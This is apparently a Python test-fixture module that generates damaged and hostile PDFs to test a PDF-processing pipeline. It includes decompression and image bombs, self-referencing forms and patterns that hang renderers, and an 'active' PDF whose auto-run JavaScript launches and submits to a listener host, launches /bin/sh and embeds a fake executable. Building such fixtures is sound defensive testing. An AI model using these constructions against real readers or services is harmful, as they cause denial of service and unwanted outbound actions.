"""Kinds of PDF: good, damaged, lying, locked, and made to harm."""

from __future__ import annotations

import functools
import zlib
from random import Random

import pymupdf

from tests.faults.hostile.kind import LISTENER, Make
from tests.faults.hostile.paper import assembled, flate, invoice, invoice_lines, pdf, stream, text

KNOWN_PASSWORD = "open sésame "  # the mix is read with it
MAX_PAGES = 50  # limit of the mix
BOMB_MB = 1_500
NESTED, TIMES = 14, 12  # 12 to the 14th drawings: MuPDF spins for years, holding the interpreter's lock


def clean(chance: Random) -> bytes:
    return invoice(chance)


def pages(count: int) -> Make:
    return lambda chance: pdf([stream(text(invoice_lines(chance))) for _ in range(count)])


def page_with(entries: str) -> Make:
    """An invoice whose page has other entries in its dictionary."""
    return lambda chance: invoice(chance, page=entries)


def media_box(box: str) -> Make:
    return page_with(f"/MediaBox [{box}]")


def root_with(entries: str) -> Make:
    """An invoice whose page tree has another root."""
    return lambda chance: invoice(chance, pages=entries)


def cut_short(chance: Random) -> bytes:
    """Without its end: no cross-reference table, no trailer."""
    whole = invoice(chance)
    return whole[: whole.index(b"xref\n0") - chance.randint(0, 5)]


def without_xref(chance: Random) -> bytes:
    whole = invoice(chance)
    start, end = whole.index(b"xref\n0"), whole.index(b"trailer")
    return whole[:start] + whole[end:]


def wrong_offsets(chance: Random) -> bytes:
    return b"\n" * chance.randint(1, 9) + invoice(chance)[:-30] + b"\nstartxref\n7\n%%EOF\n"


def junk_before(chance: Random) -> bytes:
    """A mail header or the like before the PDF begins: readers look in the first 1,024 bytes."""
    return b"Received: x\r\n" * chance.randint(1, 60) + invoice(chance)


def noise(chance: Random) -> bytes:
    return b"%PDF-1.7\n" + chance.randbytes(chance.randint(500, 5_000))


def garbage_contents(chance: Random) -> bytes:
    """The page's operators are noise, its text before them is not."""
    body = text(invoice_lines(chance)) + b"\n" + bytes(chance.choice(range(32, 127)) for _ in range(2_000))
    return pdf([stream(body)])


def hanging(pages: int, good_pages: int = 0) -> Make:
    """Pages of a form that draws the next one a dozen times, and so on; before them good ones."""

    def make(chance: Random) -> bytes:
        forms = []
        for level in range(NESTED):
            draw = b"/G Do " * TIMES if level < NESTED - 1 else b"0 0 %d 5 re f" % chance.randint(1, 10**9)
            below = f"/Resources << /XObject << /G {6 + level} 0 R >> >>" if level < NESTED - 1 else ""
            forms.append(stream(draw, f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] {below}"))
        good = [stream(text(invoice_lines(chance))) for _ in range(good_pages)]
        return pdf([*good, *[stream(b"/G Do")] * pages], resources="/XObject << /G 5 0 R >>", extra=forms)

    return make


def form_of_itself(chance: Random) -> bytes:
    body = text(invoice_lines(chance)) + b" /G Do"
    form = stream(
        b"0 0 5 5 re f /G Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /G 5 0 R >> >>"
    )
    return pdf([stream(body)], resources="/XObject << /G 5 0 R >>", extra=[form])


def flate_bomb(chance: Random) -> bytes:
    """Operators that take gigabytes once unpacked, packed twice into some kilobytes."""
    return invoice(chance, contents=stream(_packed_lines(), "/Filter [/FlateDecode /FlateDecode]"))


@functools.cache
def _packed_lines() -> bytes:
    packer = zlib.compressobj(6)
    megabyte = b"0 0 m 9 9 l S\n" * 75_000
    return zlib.compress(b"".join([packer.compress(megabyte) for _ in range(BOMB_MB)] + [packer.flush()]), 9)


def image_bomb(chance: Random) -> bytes:
    """An image of 50,000 x 50,000 pixels in a PDF of some kilobytes."""
    side = 50_000 + chance.randint(0, 99)
    image = flate(
        bytes(1_000_000),
        f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceRGB /BitsPerComponent 8",
        times=2,
    )
    body = text(invoice_lines(chance)) + b" q 500 0 0 200 50 50 cm /I Do Q"
    return pdf([stream(body)], resources="/XObject << /I 5 0 R >>", extra=[image])


def broken_image(image_filter: str) -> Make:
    """An invoice with a logo whose data are noise."""

    def make(chance: Random) -> bytes:
        image = stream(
            chance.randbytes(400),
            "/Type /XObject /Subtype /Image /Width 60 /Height 40 /ColorSpace /DeviceGray /BitsPerComponent "
            f"{1 if image_filter in ('JBIG2Decode', 'CCITTFaxDecode') else 8} /Filter /{image_filter}",
        )
        body = text(invoice_lines(chance)) + b" q 60 0 0 40 450 780 cm /I Do Q"
        return pdf([stream(body)], resources="/XObject << /I 5 0 R >>", extra=[image])

    return make


def broken_font(chance: Random) -> bytes:
    """A second font, embedded and broken; the first one prints the invoice."""
    body = text(invoice_lines(chance)) + b" BT /Z 12 Tf 60 500 Td (thank you) Tj ET"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /Broken /Flags 32 /FontFile2 7 0 R >>"
    extra = [font, descriptor, stream(chance.randbytes(900))]
    return pdf([stream(body)], fonts="/Z 5 0 R", extra=extra)


def odd_font_name(chance: Random) -> bytes:
    """A font that is none, by a name that is no text: PyMuPDF wants to warn of it, and cannot."""
    return invoice(chance, fonts="/#ff#fe 7")


def many_annotations(chance: Random) -> bytes:
    boxes = ((chance.randint(0, 500), chance.randint(0, 800)) for _ in range(3_000))
    notes = [
        f"<< /Type /Annot /Subtype /Square /Rect [{x} {y} {x + 5} {y + 5}] /C [1 0 0] >>".encode() for x, y in boxes
    ]
    references = " ".join(f"{5 + index} 0 R" for index in range(len(notes)))
    return invoice(chance, page=f"/MediaBox [0 0 595 842] /Annots [{references}]", extra=notes)


def active(chance: Random) -> bytes:
    """Everything that wants to act or to fetch: scripts, programs, addresses, files, forms to send."""
    where = f"http://{LISTENER}/{chance.randint(0, 9_999)}"
    address = f"/FS /URL /F ({where})"
    extra = [
        f"<< /S /JavaScript /JS (app.launchURL\\('{where}', true\\); this.submitForm\\('{where}'\\);) >>".encode(),
        b"<< /S /Launch /F (/bin/sh) /Unix << /F (sh) >> >>",
        f"<< /S /URI /URI ({where}) >>".encode(),
        f"<< /S /SubmitForm /F << {address} >> >>".encode(),
        f"<< /S /GoToR /F << {address} >> /D [0 /Fit] >>".encode(),
        f"<< /Length 0 /F << {address} >> /Type /XObject /Subtype /Form /BBox [0 0 9 9] >>\n"
        "stream\n\nendstream".encode(),
        f"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 "
        f"/F << {address} >> >>\nstream\n\nendstream".encode(),
        f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << {address} >> /Page 0 >> /Length 0 >>\n"
        "stream\n\nendstream".encode(),
        stream(b"MZ" + chance.randbytes(200), "/Type /EmbeddedFile"),
        b"<< /Type /Filespec /F (run.exe) /EF << /F 13 0 R >> >>",
    ]
    annotations = " ".join(
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A {number} 0 R >>" for number in (5, 6, 7, 8, 9)
    )
    body = text(invoice_lines(chance)) + b" /G Do /I Do /H Do"
    return pdf(
        [stream(body)],
        catalog="/OpenAction 5 0 R /AA << /WC 6 0 R >> /Names << /EmbeddedFiles << /Names [(x) 14 0 R] >> >>",
        page=f"/MediaBox [0 0 595 842] /AA << /O 5 0 R /C 7 0 R >> /Annots [{annotations}]",
        resources="/XObject << /G 10 0 R /I 11 0 R /H 12 0 R >>",
        extra=extra,
    )


def deep_arrays(chance: Random) -> bytes:
    """An object nested deeper than a recursive parser has stack."""
    deep = 100_000 + chance.randint(0, 99)
    return invoice(chance, page="/MediaBox [0 0 595 842] /Annots 5 0 R", extra=[b"[" * deep + b"]" * deep])


def pattern_of_itself(chance: Random) -> bytes:
    """A pattern that paints with itself."""
    pattern = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 "
        "/Resources << /Pattern << /P 5 0 R >> >>",
    )
    body = text(invoice_lines(chance)) + b" /Pattern cs /P scn 50 50 200 200 re f"
    return pdf([stream(body)], resources="/Pattern << /P 5 0 R >>", extra=[pattern])


def extreme_numbers(chance: Random) -> bytes:
    odd = ["1e38", "-1e38", "99999999999999999999", "0.0000000001", "-2147483648", "4294967296", "nan", "--5", "1.2.3"]
    operators = " ".join(f"{' '.join(chance.choices(odd, k=4))} re f {chance.choice(odd)} w" for _ in range(60))
    return pdf([stream(text(invoice_lines(chance)) + b" q " + operators.encode() + b" Q")])


def locked(user: str, owner: str, method: int) -> Make:
    def make(chance: Random) -> bytes:
        with pymupdf.open(stream=invoice(chance), filetype="pdf") as document:
            data: bytes = document.tobytes(encryption=method, user_pw=user, owner_pw=owner)
            return data

    return make


def broken_lock(chance: Random) -> bytes:
    """An encryption dictionary that makes no sense."""
    whole = locked("", "owner", pymupdf.PDF_ENCRYPT_AES_256)(chance)
    return whole.replace(b"/V 5", b"/V 9").replace(b"/V  5", b"/V  9")


def page_tree_cycle(chance: Random) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        b"(%d)" % chance.randint(0, 999),
    ]
    return assembled(objects)
